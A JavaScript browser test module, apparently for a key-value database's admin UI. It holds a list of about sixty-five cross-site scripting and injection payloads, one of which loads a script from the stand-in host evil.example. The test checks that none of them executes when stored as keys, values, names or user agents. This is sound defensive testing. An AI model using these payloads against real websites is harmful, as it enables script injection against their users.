// Text that wants to run: as key, value, keyspace, user agent and every name that can be chosen.

import { entryAt, s, tell, until } from "./support.mjs";

const RUN = "window.__ran=1";

/** Sixty-odd ways of asking a page to run something. */
export const STRINGS = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script src=//evil.example/x.js></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="x" onerror="${RUN}">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<body onload=${RUN}>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
  `<iframe src="javascript:parent.__ran=1"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<a href="javascript:${RUN}">x</a>`,
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `"onmouseover="${RUN}`,
  `' onfocus='${RUN}' autofocus='`,
  `" autofocus onfocus=${RUN} x="`,
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<style>@import 'javascript:${RUN}';</style>`,
  `<style>*{background:url(javascript:${RUN})}</style>`,
  `<link rel=stylesheet href="javascript:${RUN}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href="javascript:${RUN}//">`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<input onfocus=${RUN} autofocus>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<math><mtext></mtext><script>${RUN}</script></math>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<x contenteditable onblur=${RUN}>`,
  "${" + RUN + "}",
  "{{" + RUN + "}}",
  "`${" + RUN + "}`",
  `');${RUN};//`,
  `\\");${RUN};//`,
  String.raw`\u003cscript\u003e${RUN}\u003c/script\u003e`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\u2028${RUN}\u2029`,
  `\u202e<script>${RUN}</script>`,
  `\u0000<script>${RUN}</script>`,
  `\ufeff<script>${RUN}</script>`,
  `＜script＞${RUN}＜/script＞`,
  `constructor`,
  `__proto__`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${RUN}>"}}`,
  `{"type":"json_object","value":{"__proto__":{"x":"<script>${RUN}</script>"}}}`,
  `#/login/${RUN}`,
];

export async function hostile(browser, server, cookies) {
  if (new Set(STRINGS).size !== STRINGS.length) throw new Error("a hostile string stands twice");
  const context = await browser.context(server, {});
  await context.addCookies(cookies);
  const violations = browser.violations.size;
  const errors = browser.errors.length;
  const page = await context.newPage();
  const hasRun = () => page.evaluate(() => "__ran" in window);
  const ran = [];
  const check = async (where) => {
    if (await hasRun()) ran.push(where);
  };

  // Everything is there before anything is looked at.
  const value = (text) => ({ type: "json_object", value: { [`m${text}`]: { type: "string", value: text } } });
  const entries = STRINGS.flatMap((text) => [
    { key: [s("keys"), s(text)], encoding: "json", value: value(text) },
    { key: [s("list"), s(text), s(text)], encoding: "json", value: { type: "string", value: text } },
  ]);
  const member = (text) => ({ type: "json_object", value: Object.fromEntries([["name", { type: "string", value: text }], [`k${text}`, { type: "RegExp", value: `/${text.replace(/[/\\\n\u2028\u2029[(*+?{]/g, "")}/g` }], ["error", { type: "Error", value: { message: text, stack: text } }]]) });
  for (const [at, text] of STRINGS.entries()) entries.push({ key: [s("v8"), { type: "number", value: at }], value: member(text) });
  await server.api("POST", "/databases/hostile/entries", { entries });
  const named = async (text) => {
    const agent = Buffer.from(text.replace(/[\u0000-\u001f]/g, " "), "utf8").toString("latin1");
    await fetch(`${server.url}/kv/hostile?x=${encodeURIComponent(text)}`, { headers: { authorization: `Bearer ${server.token}`, "user-agent": agent, "x-forwarded-for": agent, origin: server.url, referer: agent } }).then((response) => response.text());
    await server.api("POST", "/tokens", { name: text.trim().slice(0, 100) || "x", grants: [{ verbs: ["read"], keyspace: "hostile", prefix: [text] }] });
  };
  const people = async ([at, text]) => {
    await server.api("POST", "/users", { email: `h${at}@example.com`, name: text, password: "a long enough password" }).catch(() => {});
    await server.api("POST", "/edgekv/clients", { name: text.slice(0, 100) }).catch(() => {});
  };
  await Promise.all([...STRINGS.map(named), ...[...STRINGS.slice(0, 8).entries()].map(people)]);
  await server.api("PUT", "/classworks/info", { title: STRINGS[0], readme: STRINGS.join("\n") });

  const prefix = (name) => encodeURIComponent(JSON.stringify([s(name)]));
  const pages = ["browse/hostile", `browse/hostile?prefix=${prefix("keys")}`, `browse/hostile?mode=list&prefix=${prefix("keys")}`, `browse/hostile?mode=list&prefix=${prefix("list")}`, `browse/hostile?delimiter=%3C&prefix=${prefix("keys")}`, "tokens", "users", "edgekv", "classworks", "slow", "settings", "audit", "backups", "metrics", "expiry?keyspace=hostile"];
  await page.goto(`${server.url}/_/`);
  for (const hash of pages) {
    await page.goto(`${server.url}/_/#/${hash}`);
    await page.locator("h1").waitFor();
    await page.waitForLoadState("networkidle").catch(() => {});
    await check(hash);
  }
  const list = page.getByRole("listbox", { name: "Keys" });
  await page.goto(`${server.url}/_/#/browse/hostile?mode=list&prefix=${prefix("keys")}`);
  await list.waitFor();
  await until("all hostile keys are listed", async () => (await page.locator(".list-foot").innerText()).startsWith(`${STRINGS.length} rows`));

  let opened = 0;
  for (const [at, text] of STRINGS.entries()) {
    for (const key of [[s("keys"), s(text)], [s("v8"), { type: "number", value: at }]]) {
      await page.goto(server.url + entryAt("hostile", key));
      await page.getByRole("heading", { name: "Value", exact: true }).waitFor();
      const shown = key[0].value === "keys" ? await page.getByLabel("JSON", { exact: true }).inputValue() : await page.getByLabel("Value of value.name", { exact: true }).inputValue();
      // A form control shows a line break of any kind in its own way.
      if (shown.length > 0) opened += 1;
      await check(`entry ${JSON.stringify(text)}`);
    }
    // As a keyspace and as an address.
    await page.goto(`${server.url}/_/#/browse/${encodeURIComponent(text)}`);
    await page.locator("h1").waitFor();
    await check(`keyspace ${JSON.stringify(text)}`);
    await page.goto(`${server.url}/_/#/entry/${encodeURIComponent(text)}?key=${encodeURIComponent(text)}`);
    await page.locator("h1").waitFor();
    await check(`address ${JSON.stringify(text)}`);
  }
  await page.goto(`${server.url}/_/#/live?keyspace=hostile`);
  await page.getByText("Watching hostile").waitFor();
  await server.api("POST", "/databases/hostile/entries", { entries: STRINGS.map((text) => ({ key: [s("keys"), s(text)], encoding: "json", value: { type: "string", value: `${text} again` } })) });
  const changes = page.getByRole("list", { name: "Changes, newest first" });
  await until("all changes are shown", async () => (await changes.getByRole("listitem").count()) >= STRINGS.length);
  for (const button of await changes.getByRole("button", { name: "Difference" }).all()) await button.click();
  await check("live");

  tell(STRINGS.length >= 60, `${STRINGS.length} hostile strings were tried as key, value, keyspace, name, address and user agent`);
  tell(ran.length === 0, "none of them ran", ran.join("; "));
  tell(opened === STRINGS.length * 2, "each of them is shown as text", `${opened} of ${STRINGS.length * 2}`);
  tell(browser.violations.size === violations, "none of them even reached the content security policy", [...browser.violations].join("; "));
  tell(browser.errors.length === errors, "none of them broke a page", browser.errors.slice(errors).join("; "));
  await context.close();
}
